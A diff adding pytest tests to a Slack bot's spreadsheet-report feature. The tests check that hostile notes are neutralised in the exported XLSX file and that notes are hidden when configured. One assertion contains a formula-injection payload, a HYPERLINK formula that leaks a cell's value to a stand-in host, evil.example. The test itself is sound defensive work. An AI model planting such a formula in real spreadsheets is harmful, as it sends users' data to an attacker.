@@ -6,14 +6,20 @@ Through the real HTTP app and the fake Web API, which speaks the external upload
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import json
 
+import pytest
 from openpyxl import load_workbook
+from sqlalchemy.orm import Session, sessionmaker
 
 from bot.slack.subcommands import Report, Usage, parse_subcommand
+from reports.table import COLUMNS
+from seuranta.settings import Settings
 from tests.bot.slack.conftest import SignedSlack
 from tests.fakeslack import FakeSlack, Upload
+from tests.reports.conftest import HOSTILE_REPORTER, store_hostile_texts, xlsx_rows
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
 CHANNEL = "C111"  # the channel of the shared slash_command payload
@@ -160,3 +166,41 @@ def test_help_mentions_the_report(slack: SignedSlack) -> None:
 
     texts = [b["text"]["text"] for b in body["blocks"] if b.get("type") == "section"]
     assert any("`/seuranta report`" in text for text in texts)
+
+
+def _uploaded_table(fake_slack: FakeSlack) -> bytes:
+    (complete,) = fake_slack.calls("files.completeUploadExternal")
+    return _uploaded(fake_slack, _shared_ids(complete.params))[TABLE]
+
+
+def test_hostile_notes_make_no_formula_and_do_not_break_the_report(
+    slack: SignedSlack, fake_slack: FakeSlack, factory: sessionmaker[Session]
+) -> None:
+    store_hostile_texts(factory)
+
+    assert _report(slack, fake_slack) == "The report is posted in this channel."
+
+    rows = {row[0]: row for row in xlsx_rows(_uploaded_table(fake_slack))}  # every cell checked
+    note, reporter = COLUMNS.index("note"), COLUMNS.index("reporter")
+    assert rows["1.2"][note] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    assert rows["1.2"][reporter] == HOSTILE_REPORTER
+
+
+class TestWithStatusNotesHidden:
+    @pytest.fixture
+    def slack_settings(self, slack_settings: Settings) -> Settings:
+        return dataclasses.replace(slack_settings, hide_status_notes=True)
+
+    def test_the_table_has_neither_notes_nor_who_reported(
+        self, slack: SignedSlack, fake_slack: FakeSlack, factory: sessionmaker[Session]
+    ) -> None:
+        store_hostile_texts(factory)
+
+        _report(slack, fake_slack)
+
+        rows = xlsx_rows(_uploaded_table(fake_slack))
+        assert "Status note" not in rows[0]
+        assert "Reported by" not in rows[0]
+        assert "Reported on" in rows[0]
+        assert "HYPERLINK" not in str(rows)
+        assert HOSTILE_REPORTER not in str(rows)
